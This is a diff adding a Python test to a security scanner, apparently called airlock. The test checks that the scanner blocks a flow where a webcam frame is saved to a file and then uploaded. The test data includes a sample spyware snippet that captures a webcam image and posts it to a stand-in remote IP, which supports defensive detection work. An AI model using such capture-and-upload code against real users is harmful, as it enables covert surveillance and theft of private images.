@@ -101,3 +101,28 @@ def test_a_flow_with_many_origins_names_the_same_one_in_every_process() -> None:
     }
     assert len(seen) == 1, seen
     assert "→ socket.gethostbyname" in next(iter(seen))
+
+
+def test_data_saved_to_a_file_flows_through_it_to_the_send() -> None:
+    from airlock.analyzer.models import Verdict
+    from airlock.analyzer.scan import scan
+
+    webcam = (
+        "import cv2, requests\n"
+        "ok, frame = cv2.VideoCapture(0).read()\n"
+        "cv2.imwrite('c.jpg', frame)\n"
+        "requests.post('http://198.51.100.7/up', files={'f': open('c.jpg', 'rb')})\n"
+    )
+    report = scan(webcam)
+    flow = [f for f in report.active_findings if f.rule_id == "AIR-FLOW-001"]
+    assert report.verdict == Verdict.block and len(flow) == 1
+    assert "saved to c.jpg (line 2)" in flow[0].message
+    # control: a resized photo and the program's own JSON saved and uploaded carry no capture
+    own = (
+        "import json, requests\nfrom PIL import Image\n"
+        "Image.open('photo.jpg').resize((9, 9)).save('thumb.jpg')\n"
+        "requests.post('https://api.example.com/u', files={'f': open('thumb.jpg', 'rb')})\n"
+        "json.dump({'n': 1}, open('out.json', 'w'))\n"
+        "requests.post('https://api.example.com/d', data=open('out.json').read())\n"
+    )
+    assert "AIR-FLOW-001" not in {f.rule_id for f in scan(own).active_findings}
